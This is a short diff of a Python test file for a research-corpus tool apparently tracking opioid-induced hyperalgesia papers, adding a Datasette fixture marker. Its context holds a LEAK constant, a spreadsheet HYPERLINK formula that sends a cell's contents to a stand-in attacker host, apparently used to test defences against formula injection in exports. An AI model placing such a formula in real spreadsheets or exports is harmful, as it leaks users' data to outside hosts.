@@ -15,6 +15,7 @@ import pytest
 
 pytest.importorskip("datasette")
 
+from conftest import DATASETTE_UNCLOSED  # noqa: E402
 from corpus.article import Author  # noqa: E402
 from corpus.exports import spreadsheet_text  # noqa: E402
 from corpus.store import Store  # noqa: E402
@@ -23,6 +24,8 @@ from oihwatch.web.server import snapshot_path  # noqa: E402
 from oihwatch.web.snapshot import build_snapshot  # noqa: E402
 from research_corpus import copy_store  # noqa: E402
 from test_serve import TOPICS, VIEW, view_client  # noqa: E402
+
+pytestmark = [DATASETTE_UNCLOSED, pytest.mark.usefixtures("datasette_garbage")]  # Datasette's own connections: see conftest
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Opioid-induced hyperalgesia: click")'
 # Papers whose cells a spreadsheet would run, by PMID: one of the newest, one of the oldest (on the last
